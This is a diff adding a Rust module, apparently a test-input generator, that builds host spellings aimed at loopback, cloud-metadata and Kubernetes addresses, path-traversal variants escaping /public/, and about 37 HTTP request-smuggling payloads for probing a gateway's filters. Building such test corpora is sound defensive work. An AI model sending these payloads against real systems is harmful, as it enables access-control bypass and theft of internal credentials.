@@ -1,0 +1,248 @@
+//! Hosts, paths and requests in spellings that two programs may read differently: what a gateway is attacked with.
+
+/// What stands between two names, so that one program sees the first and another the second.
+const BETWEEN: [&str; 26] = [
+    "\0", "%00", "\t", " ", "%20", "\r\n", "%0d%0a", "@", "%40", "#", "%23", "?", "%3f", "/", "%2f", "\\",
+    "%5c", ",", ";", ":", ":443:", ":443@", "..", "%2e", "\u{3002}", "|",
+];
+/// Spellings of addresses that nobody outside has, and of the denied host's own.
+const ADDRESSES: [&str; 40] = [
+    "127.0.0.1",
+    "127.1",
+    "0x7f.1",
+    "0x7f000001",
+    "2130706433",
+    "017700000001",
+    "0177.0.0.1",
+    "127.0.1",
+    "0",
+    "0.0.0.0",
+    "localhost",
+    "localhost.",
+    "LOCALHOST",
+    "[::1]",
+    "[::]",
+    "[::ffff:127.0.0.1]",
+    "[::ffff:7f00:1]",
+    "[64:ff9b::7f00:1]",
+    "[2002:7f00:1::]",
+    "[::1%25eth0]",
+    "[fe80::1%25eth0]",
+    "169.254.169.254",
+    "2852039166",
+    "0xA9FEA9FE",
+    "0251.0376.0251.0376",
+    "169.254.43518",
+    "0xa9.0xfe.0xa9fe",
+    "[::ffff:a9fe:a9fe]",
+    "[fd00:ec2::254]",
+    "100.100.100.200",
+    "168.63.129.16",
+    "10.96.0.1",
+    "10.77.0.10",
+    "20.0.114.80",
+    "20.0.29264",
+    "335573584",
+    "0x14007250",
+    "[::ffff:20.0.114.80]",
+    "kubernetes.default.svc",
+    "kubernetes",
+];
+/// Other forms of a name.
+const FORMS: [fn(&str) -> String; 30] = [
+    |name| name.replace('.', ".."),
+    |name| format!(".{name}"),
+    |name| format!("{name}.."),
+    |name| name.replace('.', "%2e"),
+    |name| name.replace('.', "\u{3002}"),
+    |name| name.replace('.', "\u{ff0e}"),
+    |name| name.replace('e', "\u{ff45}"),
+    |name| name.replace('e', "\u{435}"),
+    |name| name.replace('e', "%65"),
+    |name| format!("user@{name}"),
+    |name| format!("user:secret@{name}"),
+    |name| format!("{name}@"),
+    |name| format!("[{name}]"),
+    |name| format!("_{name}"),
+    |name| format!("-{name}"),
+    |name| format!("*.{name}"),
+    |name| format!("{}.{name}", "x".repeat(64)),
+    |name| format!("{}{name}", "x.".repeat(121)),
+    |name| format!("{name}\u{200c}"),
+    |name| format!("\u{feff}{name}"),
+    |name| format!("xn--{name}"),
+    |name| format!("{name}:0443"),
+    |name| format!("{name}:+443"),
+    |name| format!("{name}:443\u{660}"),
+    |name| format!("{name}:"),
+    |name| format!("{name}:443:443"),
+    |name| format!("{name}:https"),
+    |name| format!("https://{name}"),
+    |name| format!("//{name}"),
+    |name| format!("{name}\u{ad}"),
+];
+
+/// At least 200 spellings of hosts, none of which is the allowed one.
+pub fn hosts(allowed: &str, denied: &str) -> Vec<String> {
+    let between = BETWEEN
+        .iter()
+        .flat_map(|text| [format!("{allowed}{text}{denied}"), format!("{denied}{text}{allowed}")]);
+    let forms = FORMS.iter().flat_map(|form| [form(allowed), form(denied)]);
+    let suffixed = [denied, "telemetry.example", "example"].map(str::to_owned);
+    let shortened = allowed.get(..allowed.len() - 1).unwrap_or_default().to_owned();
+    let suffixed = suffixed.into_iter().chain([format!("{allowed}.evil"), format!("x{allowed}"), shortened]);
+    let ports = [22, 25, 80, 0, 65_536].map(|port| format!("{allowed}:{port}"));
+    let addresses = ADDRESSES.iter().flat_map(|address| [(*address).to_owned(), format!("{address}:443")]);
+    between.chain(forms).chain(suffixed).chain(ports).chain(addresses).collect()
+}
+
+/// Ways from a folder that is allowed to one that is not.
+const UP: [&str; 30] = [
+    "../",
+    "..%2f",
+    "%2e%2e/",
+    "%2e%2e%2f",
+    ".%2e/",
+    "%2e./",
+    "..\\",
+    "..%5c",
+    "%2e%2e%5c",
+    "%252e%252e/",
+    "%252e%252e%252f",
+    "..;/",
+    "..;x/",
+    "..%3b/",
+    "..//",
+    ".././",
+    "./../",
+    "%c0%ae%c0%ae/",
+    "%c0%ae%c0%ae%c0%af",
+    "..%c0%af",
+    "%e0%80%ae%e0%80%ae/",
+    "..%00/",
+    "..%0d%0a/",
+    "..%09/",
+    "..%20/",
+    "..%23/",
+    "..%3f/",
+    "..\u{2215}",
+    "\u{ff0e}\u{ff0e}/",
+    "%uff0e%uff0e/",
+];
+/// What stands before such a way, and what after it.
+const BEFORE: [&str; 5] = ["/public/", "/public//", "/public/x/../", "/public/./", "//public/"];
+/// Paths that are to be read as one that is not allowed.
+const OUTRIGHT: [&str; 16] = [
+    "/secret/",
+    "//secret/",
+    "/./secret/",
+    "/%2fsecret/",
+    "/%73ecret/",
+    "/SECRET/",
+    "/public%2f..%2fsecret/",
+    "/public%5c..%5csecret/",
+    "/public;/../secret/",
+    "/public?/../../secret/",
+    "/public#/../../secret/",
+    "/publicsecret/",
+    "/public%00/secret/",
+    "/.%2fsecret/",
+    "/public/../",
+    "/../",
+];
+
+/// At least 150 paths, each of which some program reads as one that is not below `/public/`; another segment may be added.
+pub fn paths() -> impl Iterator<Item = String> {
+    let ways = BEFORE.iter().flat_map(|before| UP.iter().map(move |up| format!("{before}{up}secret/")));
+    ways.chain(OUTRIGHT.map(str::to_owned))
+}
+
+/// Bytes that some programs take for one request and others for two, of which the second asks for `hidden`.
+pub fn smuggled(host: &str, hidden: &str) -> Vec<(&'static str, String)> {
+    let second = format!("GET {hidden} HTTP/1.1\r\nHost: {host}\r\n\r\n");
+    let length = second.len();
+    let post = |headers: &str, body: &str| {
+        format!("POST /public/form HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n{body}")
+    };
+    let chunked =
+        |coding: &str| post(&format!("{coding}\r\nContent-Length: 4\r\n"), &format!("0\r\n\r\n{second}"));
+    vec![
+        ("a length and chunks", chunked("Transfer-Encoding: chunked")),
+        ("a length and identity", chunked("Transfer-Encoding: identity")),
+        ("a coding with a space", chunked("Transfer-Encoding : chunked")),
+        ("a coding with a tab", chunked("Transfer-Encoding:\tchunked")),
+        ("a coding in capitals", chunked("Transfer-Encoding: CHUNKED")),
+        ("two codings", chunked("Transfer-Encoding: gzip, chunked")),
+        ("a coding twice", chunked("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity")),
+        ("a coding that is none", chunked("Transfer-Encoding: xchunked")),
+        ("a coding with a vertical tab", chunked("Transfer-Encoding: \u{b}chunked")),
+        ("a folded coding", chunked("Transfer-Encoding:\r\n chunked")),
+        ("a coding after a bare line feed", chunked("X: y\nTransfer-Encoding: chunked")),
+        ("two lengths", post(&format!("Content-Length: 0\r\nContent-Length: {length}\r\n"), &second)),
+        (
+            "two lengths, the other first",
+            post(&format!("Content-Length: {length}\r\nContent-Length: 0\r\n"), &second),
+        ),
+        ("a list of lengths", post(&format!("Content-Length: 0, {length}\r\n"), &second)),
+        ("a signed length", post("Content-Length: +0\r\n", &second)),
+        ("a hexadecimal length", post("Content-Length: 0x0\r\n", &second)),
+        ("a negative length", post("Content-Length: -1\r\n", &second)),
+        ("a long length", post("Content-Length: 99999999999999999999\r\n", &second)),
+        ("no length", post("", &second)),
+        (
+            "a chunk's size in two readings",
+            post("Transfer-Encoding: chunked\r\n", &format!("0x0\r\n\r\n{second}")),
+        ),
+        (
+            "a chunk's size too long",
+            post("Transfer-Encoding: chunked\r\n", &format!("fffffffffffffffff\r\n\r\n{second}")),
+        ),
+        ("a chunk's extension", post("Transfer-Encoding: chunked\r\n", &format!("0;x=\"\r\n\r\n{second}"))),
+        ("a chunk after a bare line feed", post("Transfer-Encoding: chunked\r\n", &format!("0\n\n{second}"))),
+        (
+            "trailers",
+            post(
+                "Transfer-Encoding: chunked\r\nTrailer: x\r\n",
+                &format!("0\r\nHost: hidden.example\r\nAuthorization: mine\r\n\r\n{second}"),
+            ),
+        ),
+        ("an expectation", post(&format!("Expect: 100-continue\r\nContent-Length: {length}\r\n"), &second)),
+        ("an unknown expectation", post(&format!("Expect: x\r\nContent-Length: {length}\r\n"), &second)),
+        (
+            "an upgrade",
+            post(
+                "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: 0\r\n",
+                &second,
+            ),
+        ),
+        (
+            "a web socket",
+            post(
+                "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\nContent-Length: 0\r\n",
+                &second,
+            ),
+        ),
+        (
+            "a request line with more",
+            format!("GET /public/x HTTP/1.1 HTTP/1.1\r\nHost: {host}\r\n\r\n{second}"),
+        ),
+        (
+            "a request line after a bare line feed",
+            format!("GET /public/x HTTP/1.1\nHost: {host}\n\n{second}"),
+        ),
+        ("HTTP/0.9", format!("GET /public/x\r\n\r\n{second}")),
+        ("HTTP/2 without TLS saying so", format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{second}")),
+        ("a method in lower case", format!("get /public/x HTTP/1.1\r\nHost: {host}\r\n\r\n{second}")),
+        ("a method that overrides", post("X-HTTP-Method-Override: PUT\r\nContent-Length: 0\r\n", &second)),
+        (
+            "a tunnel in a tunnel",
+            format!("CONNECT hidden.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n{second}"),
+        ),
+        ("a trace", format!("TRACE /public/x HTTP/1.1\r\nHost: {host}\r\n\r\n{second}")),
+        (
+            "a body where there is none",
+            format!("GET /public/x HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n\r\n{second}"),
+        ),
+        ("a denied request, then another", format!("GET {hidden} HTTP/1.1\r\nHost: {host}\r\n\r\n{second}")),
+    ]
+}
